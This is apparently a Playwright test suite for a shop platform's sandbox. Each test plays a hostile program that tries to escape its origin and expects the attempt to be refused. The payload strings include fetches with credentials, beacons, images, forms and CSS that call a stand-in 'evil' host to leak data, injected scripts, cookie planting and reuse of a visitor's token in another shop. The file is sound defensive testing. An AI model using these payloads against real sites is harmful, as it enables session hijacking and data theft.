/** What a hostile program may try on its own origin, one test an attempt. */
import { expect } from '@playwright/test'
import {
  attempt,
  evil,
  expectUnharmed,
  formTo,
  frameOf,
  packetsOf,
  packetTo,
  scriptWith,
  test,
} from './escape-ground.ts'
import type { Ground } from './escape-ground.ts'

test.describe('a hostile program on its own origin', () => {
  test.describe.configure({ timeout: 30_000, retries: 0 })
  for (const [name, code] of [
    [
      'asks the platform who is signed in',
      ({ product }: Ground) => `return await (await fetch('${product.url}/api/me', { credentials: 'include' })).text()`,
    ],
    [
      'changes something on the platform unseen',
      ({ product }: Ground) =>
        `await fetch('${product.url}/api/demo', { method: 'POST', mode: 'no-cors', credentials: 'include' }); return 'sent'`,
    ],
    ['frames the platform', ({ product }: Ground) => frameOf(`f.src = '${product.url}/'`)],
    ['frames the cashier', ({ product }: Ground) => frameOf(`f.src = '${product.url}/cashier/x'`)],
    [
      'frames the page on which customers agree',
      ({ product }: Ground) => frameOf(`f.src = '${product.url}/customer/account'`),
    ],
    [
      'reads a customer’s account',
      ({ product }: Ground) =>
        `return await (await fetch('${product.url}/customer/account', { credentials: 'include' })).text()`,
    ],
    [
      'agrees in a customer’s place',
      ({ product }: Ground) =>
        `await fetch('${product.url}/customer/login/x', { method: 'POST', mode: 'no-cors', credentials: 'include', body: new URLSearchParams({ action: 'allow' }) }); return 'sent'`,
    ],
    ['frames another shop', ({ otherUrl }: Ground) => frameOf(`f.src = '${otherUrl}/'`)],
    ['asks another shop', ({ otherUrl }: Ground) => `return await (await fetch('${otherUrl}/_shop/data')).text()`],
    ['fetches from elsewhere', () => `return await (await fetch('${evil}/?program', { mode: 'no-cors' })).type`],
    [
      'tells by a picture',
      () =>
        `const i = new Image(); i.src = '${evil}/?program-picture'; await new Promise((done) => { i.onload = i.onerror = done })`,
    ],
    ['adds a script of its own', () => scriptWith('s.textContent = "window.pwned = 1"')],
    ['adds a script from elsewhere', () => scriptWith(`s.src = '${evil}/x.js'`)],
    [
      'moves the base of its addresses',
      () =>
        `const b = document.createElement('base'); b.href = '${evil}/'; document.head.append(b); const a = document.createElement('a'); a.href = 'x'; return a.href.startsWith('${evil}') ? a.href : undefined`,
    ],
    ['sends a form away', () => formTo(`${evil}/?form`)],
    [
      'tells by a style',
      () => `const over = refusal('?css'); document.body.style.background = 'url(${evil}/?css)'; await over`,
    ],
    [
      'adds rules of its own',
      () =>
        `const over = refusal('style-src-elem'); const s = document.createElement('style')
         s.textContent = 'body{background:url(${evil}/?rules)}'; document.head.append(s); await over`,
    ],
    [
      'sends a beacon',
      () => `const over = refusal('${evil}'); navigator.sendBeacon('${evil}/?beacon', 'secret'); await over`,
    ],
    ['adds a script from a data address', () => scriptWith('s.src = "data:text/javascript,window.pwned=1"')],
    ['adds a script from a blob', () => scriptWith('s.src = URL.createObjectURL(new Blob(["window.pwned=1"]))')],
    [
      'starts a worker from text',
      () =>
        'return await new Promise((yes, no) => { const w = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); w.onmessage = () => yes("works"); w.onerror = no })',
    ],
    [
      'registers a picture as a service worker',
      () => 'return (await navigator.serviceWorker.register("/pictures/" + "a".repeat(64))) && "registered"',
    ],
  ] as const)
    test(name, async ({ ground }) => {
      expect(await attempt(ground.program, code(ground))).toBe('refused')
      await expectUnharmed(ground)
    })

  for (const [name, world] of [
    ['tells by a packet of WebRTC', 'window'],
    [
      'tells by a packet from an empty frame',
      `document.body.appendChild(document.createElement('iframe')).contentWindow`,
    ],
    ['tells by a packet from an empty window', `window.open('about:blank')`],
  ] as const)
    test(name, async ({ ground }) => {
      // The browser ends a page that does it from another document.
      const page = await ground.context.newPage()
      await page.goto(`${ground.programUrl}/menu`)
      const sent = await packetsOf(ground, (port) => attempt(page, packetTo(port, world)))
      expect(sent).toBe(0)
      await page.close()
      await expectUnharmed(ground)
    })

  test('what may leave does: a phone number is handed to the phone, and the page stays', async ({ ground }) => {
    const page = await ground.context.newPage()
    await page.goto(`${ground.programUrl}/menu`)
    // No app takes it here, which ends the request in the same way as an app that does; a page of an error would be another.
    const handed = page.waitForEvent('requestfailed', (request) => request.url().startsWith('tel:'))
    await page.evaluate(`location.assign('tel:+862155550100')`)
    expect((await handed).failure()?.errorText).toBe('net::ERR_ABORTED')
    await expect(page.locator('.b-menu')).toBeVisible()
    expect(page.url()).toBe(`${ground.programUrl}/menu`)
    await page.close()
  })

  test('its texts are texts: markup in names and descriptions runs nowhere', async ({ ground }) => {
    const { program } = ground
    await program.reload()
    expect(await program.evaluate('window.pwned')).toBeUndefined()
    expect(await program.locator('img[onerror], script:not([data-boot]):not([type])').count()).toBe(0)
    expect(await program.locator('a[href^="javascript:"], a[href^="data:"], a[href^="blob:"]').count()).toBe(0)
    await expect(program.locator('.sw-title-bar')).toBeVisible()
  })

  test('leaves a cookie for the platform', async ({ ground }) => {
    const { program, context, product } = ground
    for (const name of ['shopwright.session_token', '__Secure-shopwright.session_token'])
      await program.evaluate(`document.cookie = '${name}=stolen; domain=localhost; path=/'`)
    const cookies = await context.cookies(product.url)
    expect(cookies.filter(({ value }) => value === 'stolen')).toEqual([])
    await expectUnharmed(ground)
  })

  test('holds on to the platform’s window', async ({ ground }) => {
    const { program, context, product } = ground
    const opened = context.waitForEvent('page')
    await program.evaluate(`void (window.victim = window.open('${product.url}/'))`)
    const victim = await opened
    await victim.waitForLoadState()
    expect(await victim.evaluate('window.opener')).toBeNull()
    expect(await attempt(program, 'return window.victim.document.title')).toBe('refused')
    await attempt(program, `window.victim.location = '${evil}/?window'`)
    expect(victim.url().startsWith(product.url)).toBe(true)
    await victim.close()
    await expectUnharmed(ground)
  })

  test('uses a visitor’s token in another shop', async ({ ground }) => {
    const { program, programUrl, otherUrl, product } = ground
    const token = await program.evaluate(async () => {
      const body = JSON.stringify({ visitorKey: null })
      const headers = { 'content-type': 'application/json' }
      const session = await fetch('/_shop/session', { method: 'POST', headers, body })
      return ((await session.json()) as { token: string }).token
    })
    const ask = async (origin: string) => {
      const headers = { host: new URL(origin).host, authorization: `Bearer ${token}` }
      return (await program.request.get(`http://127.0.0.1:${product.port}/_shop/card`, { headers })).status()
    }
    expect(await ask(programUrl)).toBe(200)
    expect(await ask(otherUrl)).toBe(401)
  })

  test('sends the platform what only its own pages may send', async ({ ground }) => {
    const { studio, product, programUrl } = ground
    const sent: readonly Record<string, string>[] = [
      { origin: programUrl },
      { 'sec-fetch-site': 'same-site' },
      { origin: 'null' },
    ]
    for (const headers of sent)
      expect((await studio.request.post(`${product.url}/api/demo`, { headers })).status()).toBe(403)
  })
})
